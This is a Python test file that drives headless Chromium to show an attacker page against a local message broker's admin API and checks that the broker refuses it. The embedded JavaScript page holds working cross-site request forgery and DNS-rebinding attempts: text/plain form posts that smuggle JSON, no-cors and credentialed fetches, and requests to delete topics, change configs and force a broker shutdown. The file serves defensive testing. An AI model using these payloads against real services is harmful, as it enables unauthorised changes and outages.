"""
A real browser shows the page of an attacker, which tries to change a broker on the same machine.

The broker takes requests without a login, as on a developer's machine, and with one, which the browser knows. It needs
Debian's ``chromium``.
"""

from __future__ import annotations

import http.client
import json
import queue
import shutil
import subprocess
import threading
import urllib.request
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from types import MappingProxyType
from typing import Any, Self

import pytest

from logbus.testing import Broker

BROWSER = shutil.which("chromium")
pytestmark = [
    pytest.mark.interop,
    pytest.mark.slow,
    pytest.mark.skipif(BROWSER is None, reason="needs chromium (apt-get install --no-install-recommends chromium)"),
]
SECONDS = 180
CONFIG = {
    "admin.allowed.hosts": "friend.example",
    "listener.name.admin.sasl.enabled.mechanisms": "PLAIN",
    "listener.name.admin.plain.sasl.jaas.config": 'PlainLoginModule required user_alice="secret";',
}

# Each attempt is reported with what the page learns of it. BROKER is the broker's own address; the attacker's own paths
# below /api go to the broker, too, as if its name pointed there now.
PAGE = """<!DOCTYPE html><title>Kittens</title><body><script>
const found = {};
const topic = name => JSON.stringify({name: name});
async function attempt(name, url, options) {
  try {
    const answer = await fetch(url, options);
    found[name] = answer.type == "opaque" ? "sent" : answer.status + " " + (await answer.text()).slice(0, 300);
  } catch (error) { found[name] = "blocked"; }
}
function element(name, kind, url) {
  return new Promise(done => {
    const made = document.createElement(kind);
    const end = what => () => { found[name] = what; done(); };
    made.onload = end("loaded"); made.onerror = end("blocked");
    made.src = url; document.body.append(made);
  });
}
function form(name, url, enctype, field, value) {
  return new Promise(done => {
    const frame = document.createElement("iframe");
    frame.name = name; document.body.append(frame);
    const made = document.createElement("form");
    made.method = "POST"; made.action = url; made.enctype = enctype; made.target = name;
    const input = document.createElement("input");
    input.name = field; input.value = value; made.append(input); document.body.append(made);
    frame.onload = () => { found[name] = "sent"; done(); };
    made.submit();
  });
}
const json = {"Content-Type": "application/json"};
(async () => {
  const api = BROKER + "/api/v1";
  await form("form-text", api + "/topics", "text/plain", '{"name":"form-text","configs":{"x', '":"1"}}');
  await form("form-url", api + "/topics", "application/x-www-form-urlencoded", "name", "form-url");
  await form("form-multipart", api + "/topics", "multipart/form-data", "name", "form-multipart");
  await form("form-stop", api + "/brokers/0/shutdown", "text/plain", '{"force":true,"x', '":1}');
  await attempt("simple", api + "/topics", {method: "POST", mode: "no-cors", body: topic("simple")});
  await attempt("untyped", api + "/topics", {method: "POST", mode: "no-cors", body: new Blob([topic("untyped")])});
  await attempt("typed", api + "/topics", {method: "POST", mode: "no-cors", headers: json, body: topic("typed")});
  await attempt("cors", api + "/topics", {method: "POST", headers: json, body: topic("cors")});
  await attempt("credentials", api + "/topics",
    {method: "POST", headers: json, body: topic("credentials"), credentials: "include"});
  await attempt("delete", api + "/topics/orders?confirm=orders", {method: "DELETE"});
  await attempt("patch", api + "/configs/topics/orders", {method: "PATCH", headers: json, body: '{"retention.ms":1}'});
  await attempt("stop", api + "/brokers/0/shutdown", {method: "POST", headers: json, body: '{"force":true}'});
  await attempt("registry", BROKER + "/registry/config",
    {method: "PUT", headers: json, body: '{"compatibility":"NONE"}'});
  await attempt("read", api + "/topics", {});
  await attempt("read-opaque", api + "/topics", {mode: "no-cors"});
  await element("image", "img", api + "/topics");
  await element("script", "script", api + "/topics");
  navigator.sendBeacon(api + "/topics", new Blob([topic("beacon")], {type: "text/plain"}));
  await attempt("rebound-read", "/api/v1/topics", {});
  await attempt("rebound-create", "/api/v1/topics", {method: "POST", headers: json, body: topic("rebound")});
  await attempt("rebound-delete", "/api/v1/topics/orders?confirm=orders", {method: "DELETE"});
  await attempt("rebound-metrics", "/metrics", {});
  await attempt("rebound-health", "/healthz", {});
  await fetch("/found", {method: "POST", body: JSON.stringify(found)});
  // This replaces the page; for such a request the browser adds the password.
  form("_top", api + "/topics", "text/plain", '{"name":"top","configs":{"x', '":"1"}}');
})();
</script>"""


class Relay(ThreadingHTTPServer):
    """
    Passes requests to the broker as they are.

    :ivar passed: methods, paths and statuses.
    :ivar with_password: those of requests with a password.
    """

    daemon_threads = True

    def __init__(self, broker: Broker, handler: type[Passing] | None = None) -> None:
        super().__init__(("127.0.0.1", 0), handler or Passing)
        self.broker = broker
        self.passed: list[tuple[str, str, int]] = []
        self.with_password: queue.Queue[tuple[str, str, int]] = queue.Queue()

    @property
    def address(self) -> str:
        return f"127.0.0.1:{self.server_address[1]}"

    @contextmanager
    def running(self) -> Iterator[Self]:
        threading.Thread(target=self.serve_forever, daemon=True).start()
        with self:
            try:
                yield self
            finally:
                self.shutdown()


class Attacker(Relay):
    """
    A web site; what its page asks for goes to the broker, as if the name of the site pointed there now.

    :ivar target: the address that the page attacks.
    """

    def __init__(self, broker: Broker, target: str) -> None:
        super().__init__(broker, Attacking)
        self.page = PAGE.replace("BROKER", json.dumps(f"http://{target}")).encode()
        self.found: queue.Queue[dict[str, str]] = queue.Queue()


class Passing(BaseHTTPRequestHandler):
    server: Relay
    protocol_version = "HTTP/1.1"

    def pass_on(self) -> None:
        connection = http.client.HTTPConnection(self.server.broker.admin_url.partition("//")[2], timeout=SECONDS)
        connection.putrequest(self.command, self.path, skip_host=True, skip_accept_encoding=True)
        for name, value in self.headers.items():
            connection.putheader(name, value)
        connection.endheaders(self.body())
        answer = connection.getresponse()
        self.server.passed.append((self.command, self.path, answer.status))
        if "Authorization" in self.headers:
            self.server.with_password.put(self.server.passed[-1])
        self.answer(answer.status, answer.read(), dict(answer.headers.items()))
        connection.close()

    def do_GET(self) -> None:
        # The browser's user logs in, and follows a link to another site.
        path, _, link = self.path.partition("?")
        if path != "/login":
            self.pass_on()
        elif "Authorization" in self.headers:
            self.answer(302, headers={"Location": link})
        else:
            self.answer(401, headers={"WWW-Authenticate": 'Basic realm="logbus", charset="UTF-8"'})

    do_POST = do_PUT = do_PATCH = do_DELETE = do_OPTIONS = pass_on

    def body(self) -> bytes:
        return self.rfile.read(int(self.headers.get("Content-Length", 0)))

    def answer(self, status: int, body: bytes = b"", headers: Mapping[str, str] = MappingProxyType({})) -> None:
        self.send_response_only(status)
        for name, value in {**headers, "Content-Length": str(len(body))}.items():
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        """Say nothing."""


class Attacking(Passing):
    server: Attacker

    def do_GET(self) -> None:
        if self.path == "/":
            self.answer(200, self.server.page, {"Content-Type": "text/html"})
        elif self.path == "/favicon.ico":
            self.answer(404)
        else:
            self.pass_on()

    def do_POST(self) -> None:
        if self.path == "/found":
            self.server.found.put(json.loads(self.body()))
            self.answer(200)
        else:
            self.pass_on()


@contextmanager
def browsing(server: Attacker, name: str, directory: Path, login: str = "") -> Iterator[dict[str, str]]:
    """
    Show the page under a name, and return what it has found.

    :param login: where the browser's user logs in before.
    """
    assert BROWSER is not None
    page = f"http://{name}:{server.server_address[1]}/"
    browser = subprocess.Popen(
        [
            *(BROWSER, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run"),
            *("--disable-background-networking", "--disable-component-update", f"--user-data-dir={directory}"),
            *(
                f"--host-resolver-rules=MAP {name} 127.0.0.1",
                "--remote-debugging-port=0",
                f"{login}?{page}" if login else page,
            ),
        ],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        yield server.found.get(timeout=SECONDS)
    finally:
        browser.terminate()
        browser.wait(SECONDS)


def read(broker: Broker, path: str) -> Any:
    with urllib.request.urlopen(broker.admin_url + path, timeout=SECONDS) as answer:
        return json.load(answer)


def test_attack(tmp_path: Path) -> None:
    """Nothing a page tries changes anything, neither with a password that the browser knows nor by its own name."""
    with (
        Broker(CONFIG) as broker,
        Relay(broker).running() as relay,
        Attacker(broker, relay.address).running() as server,
    ):
        create = urllib.request.Request(
            f"{broker.admin_url}/api/v1/topics", b'{"name":"orders"}', {"Content-Type": "application/json"}
        )
        urllib.request.urlopen(create, timeout=SECONDS).close()
        before = read(broker, "/api/v1/topics"), read(broker, "/registry/config")

        with browsing(server, "evil.example", tmp_path / "evil", f"http://alice:secret@{relay.address}/login") as found:
            assert relay.with_password.get(timeout=SECONDS) == ("POST", "/api/v1/topics", 403)
        rebound = {name: found.pop(name) for name in list(found) if name.startswith("rebound-")}
        assert {name: said[:3] for name, said in rebound.items()} == dict.fromkeys(rebound, "421")
        assert not any("orders" in said for said in rebound.values())
        assert {said for name, said in found.items() if not name.startswith("form-")} == {"blocked"}, found
        # The browser sent what it sends unasked, which the broker refused; for all else it asked, and was not allowed.
        assert relay.passed.count(("POST", "/api/v1/topics", 403)) >= 6, relay.passed
        assert ("POST", "/api/v1/brokers/0/shutdown", 403) in relay.passed
        assert {method for method, _, status in relay.passed if status != 403} == {"GET", "OPTIONS"}, relay.passed
        assert (read(broker, "/api/v1/topics"), read(broker, "/registry/config")) == before

        # The same page under a name that is allowed: had the attack not reached the broker, this would not either.
        with browsing(server, "friend.example", tmp_path / "friend") as found:
            pass
        assert found["rebound-create"].startswith("201")
        assert found["rebound-delete"].startswith("204")
        assert {topic["name"] for topic in read(broker, "/api/v1/topics")["items"]} == {"rebound"}
